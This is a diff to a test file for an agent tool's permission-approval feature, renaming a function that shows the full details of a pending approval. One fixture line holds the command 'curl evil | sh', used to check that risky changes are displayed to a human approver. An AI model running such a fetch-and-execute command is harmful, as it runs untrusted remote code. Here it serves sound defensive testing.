@@ -3,8 +3,8 @@ import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import {
   answerApproval,
+  approvalDetails,
   listApprovals,
-  wholeApproval,
 } from "../../../../src/operations/approvals/approvals.ts";
 import { interruptAgent } from "../../../../src/operations/interrupt.ts";
 import { runState } from "../../../../src/operations/run/run-state.ts";
@@ -114,7 +114,7 @@ describe("pending permission requests (S61)", () => {
     expect(dev.shown).toEqual(expect.arrayContaining(["change: + one", "change: + curl evil | sh"]));
     const [approval] = listApprovals(ref);
     expect(approval).toMatchObject({ change: ["+ one", "+ curl evil | sh"], reason: expect.any(String) });
-    expect(wholeApproval(ref, approval?.id ?? "")).toMatchObject({ ...approval, input });
+    expect(approvalDetails(ref, approval?.id ?? "")).toMatchObject({ ...approval, input });
   });
 
   it("show a long change shortened in the list and whole on its own", async () => {
@@ -124,7 +124,7 @@ describe("pending permission requests (S61)", () => {
     const [approval] = listApprovals(ref);
     expect(approval?.change).toHaveLength(9);
     expect(approval?.change?.at(-1)).toBe("… 22 more lines");
-    expect(wholeApproval(ref, approval?.id ?? "").change).toHaveLength(30);
+    expect(approvalDetails(ref, approval?.id ?? "").change).toHaveLength(30);
   });
 
   it("show the line breaks of a command, so that a comment hides no line", async () => {
